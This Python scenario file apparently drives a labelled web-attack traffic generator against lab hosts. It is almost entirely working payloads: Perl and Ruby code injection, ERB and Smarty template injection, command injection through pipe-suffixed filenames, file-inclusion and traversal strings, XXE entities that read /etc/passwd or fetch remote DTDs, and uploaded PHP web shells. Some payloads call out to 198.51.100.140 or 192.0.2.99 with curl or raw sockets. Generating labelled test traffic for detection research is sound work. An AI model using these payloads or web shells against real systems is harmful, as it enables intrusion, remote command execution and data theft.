# SPDX-License-Identifier: GPL-2.0-or-later
"""Other ways into the marina: Perl, Ruby and PHP code, Smarty and ERB, two-argument open, files with a suffix, uploads, SOAP's entities."""
from lib.steps import body, form, get, q, upload, values

OUT = '198.51.100.140'
PERL = ['3*4', 'system("id")', '`uname -a`', '7919*13', 'print "nudo".(40+7)', 'open(F,"/etc/passwd");join("",<F>)', 'sleep 2', 'join(",",map{$_*111}1..4)', 'die "x"', 'use', 'reverse "odun"', "qx{curl -s http://%s:9090/pl}" % OUT, 'exec("whoami")', '$ENV{SERVER_SOFTWARE}', '"a"x20', 'unknown_sub()', 'sprintf("%x",48879)', "require Socket;Socket::inet_ntoa('abcd')"]
RUBY = ['3*4', '`id`', "system('id')", '7919*17', 'File.read("/etc/passwd")', '"odun".reverse', 'sleep(2)', '(1..4).map{|x|x*111}.inspect', 'raise "x"', 'nada_aqui', 'IO.popen("uname -a").read', 'ENV["SERVER_SOFTWARE"]', 'require "socket";TCPSocket.new("%s",9090).write("rb")' % OUT, '1/0', 'Dir.entries("/").sort.join(" ")', '"%05d"%4177', '[97,109,97,114].pack("c*")', '1 +', 'RUBY_VERSION', '%x(hostname)']
ERB = ['<%= 7*7 %>', '<%= 7919*31 %>', '<%= `id` %>', '<%= File.read("/etc/hostname") %>', '<% 3.times do |i| %><%= i*1111 %>,<% end %>', '{{7*7}}', '<%= system("sleep 2") %>', '<%= "amarre".upcase.reverse %>', '<%# nada %>fin', '<%= nada %>', '<%= IO.popen("cat /etc/passwd").read %>', '<%= 1 + %>', '#{7*7}', '<%= self.class %>', '<%== 8*8 %>', f"<%= `curl -s http://{OUT}:9090/erb` %>", '<%= ENV.keys.size * 0 + 40961 %>']
SMARTY = ['{7*7}', '{$smarty.version}', "{'faro'|strtoupper}", '{1337*31}', '{foreach [1,2,3] as $x}{$x*1111};{/foreach}', '{system("id")}', '{php}echo 7;{/php}', '{math equation="x*y" x=91 y=101}', '{$puerto|upper}', '{if 1==1}verdad-{3*37}{/if}', '{', '{* nada *}fin', '{include file="file:/etc/passwd"}', '{fetch file="/etc/hostname"}', '{"abc"|cat:"def"}', "{['id']|implode}", '{literal}{7*7}{/literal}', '{{7*7}}', '${7*7}', '{$smarty.template_object->smarty->getCompileDir()}', '{"a,b"|replace:",":"-"|upper}', '{assign var=z value=55}{$z*$z}', '{$smarty.now|date_format:"%Y"}', "{'passthru'|call_user_func:'id'}"]
OPEN = ['id|', 'uname -a|', 'cat /etc/passwd|', '/etc/passwd', '../../../../etc/hostname', 'sleep 2|', 'echo $((7919*19))|', f'curl -s http://{OUT}:9090/op|', 'lunes.txt', '|id', 'nada.txt', 'id;uname -r|', 'lunes.txt;id', '/etc/nada', 'printf %s 41|cat|', 'echo aWQ=|base64 -d|sh|']
VISTA = ['/etc/passwd', 'http://192.0.2.99/modul.txt?', 'http://192.0.2.99/modul', 'php://filter/convert.base64-encode/resource=comun', 'php://filter/convert.base64-encode/resource=/srv/puerto/www/barcos', 'data://text/plain,<?php echo 53*1019;?>', '../vistas/normas', 'php://input', '/srv/puerto/www/index', 'contacto', 'zip://a.zip#b', 'data:text/plain;base64,PD9waHAgZWNobyBzdHJyZXYoInl4d3YiKS5QSFBfT1M7Ly8=']
FOTO = ['....//....//....//etc/passwd', '../../../etc/passwd', '....//....//....//....//etc/hostname', 'bocana.txt', '....//www/comun.php', '....//....//....//etc/nada', '..././..././..././etc/group', '....//....//....//proc/self/cmdline', '/etc/passwd', '....\\/....\\/etc/passwd']
BUILDS = [('203.0.113.71', 80), ('203.0.113.72', 80), ('203.0.113.73', 80), ('203.0.113.74', 80)]


def spaced(steps):
    for step in steps:
        yield dict(step, pause=1.6 if any(w in step['target'] + str(step.get('body')) for w in ('192.0.2', '198.51', 'drop.example')) else 0.05)


def soap(dtd, inner):
    return f'<?xml version="1.0"?><!DOCTYPE e [{dtd}]><e><matricula>{inner}</matricula></e>'


SCENARIO = [(BUILDS, [
    get('/'), get('/cgi-bin/calculo?e=3*4'), *spaced(values('/cgi-bin/calculo', 'e', 'perli', *PERL[1:])), get('/cgi-bin/parte.rb?suma=' + q('3*4')), *spaced(values('/cgi-bin/parte.rb', 'suma', 'rubyi', *RUBY[1:])), get('/cgi-bin/parte.rb?nota=viento'), *spaced(values('/cgi-bin/parte.rb', 'nota', 'ssti', *ERB)),
    *spaced(form('/cgi-bin/parte.rb', {'nota': e}, 'ssti') for e in ERB[::4]), get('/aviso.php?texto=temporal'), *spaced(values('/aviso.php', 'texto', 'ssti', *SMARTY, gzip=True, keep=True)), *spaced(form('/aviso.php', {'texto': t}, 'ssti') for t in SMARTY[::5]), get('/aviso.php?texto=' + q('<script>alert(73201)</script>'), 'xss'),
    get('/aviso.php?texto=' + q('<img src=x onerror=alert(73202)>'), 'xss'), get('/cgi-bin/marea?dia=lunes.txt'), get('/cgi-bin/marea?dia=martes.txt'), *spaced(values('/cgi-bin/marea', 'dia', 'cmdi', *[o for o in OPEN if '|' in o or ';' in o])), *values('/cgi-bin/marea', 'dia', 'lfi', *[o for o in OPEN if '|' not in o and ';' not in o]), *spaced(values('/plantilla.php', 'vista', 'lfi', *VISTA)), *spaced(values('/plantilla.php?cruda=1', 'vista', 'rfi', *VISTA)),
    body('/plantilla.php?cruda=1&vista=php%3A%2F%2Finput', '<?php echo str_repeat("ola",3).(7919*23);', 'application/x-www-form-urlencoded', 'rfi'), *values('/foto.php', 'nombre', 'lfi', *FOTO),
    *spaced(body('/servicio.php', soap(*d), 'text/xml', 'xxe') for d in (('<!ENTITY a SYSTEM "file:///etc/passwd">', '&a;'), ('<!ENTITY a SYSTEM "/etc/hostname">', '&a;'), ('<!ENTITY a SYSTEM "http://192.0.2.99/lien.html">', '&a;'), ('<!ENTITY % p SYSTEM "http://192.0.2.99/teil.dtd">%p;', 'x'), ('<!ENTITY a "7-BA">', '&a;'))),
    upload('/subir.php', 'archivo', 'ancla.php', '<?php system("id");'), get('/subidas/ancla.php', 'upload'), upload('/subir.php', 'archivo', 'ancla.phtml', '<?php echo "{".(83*89)."}"; system($_GET["c"] ?? "uname -a"); ?>'), get('/subidas/ancla.phtml', 'upload'), get('/subidas/ancla.phtml?c=id', 'upload'), get('/subidas/ancla.phtml?c=' + q('cat /etc/group'), 'upload'),
    upload('/subir.php', 'archivo', 'plano.pdf', '%PDF-1.4 plano', 'benign'), upload('/subir.php', 'archivo', 'a.php.jpg', '<?php echo 1;'), get('/subidas/a.php.jpg', 'upload'),
    get('/cgi-bin/.%2e/.%2e/.%2e/etc/passwd', 'lfi'), get('/cgi-bin/nada.sh?x=;id', 'cmdi'), get('/wp-login.php', 'recon'), get('/.env', 'recon')])]
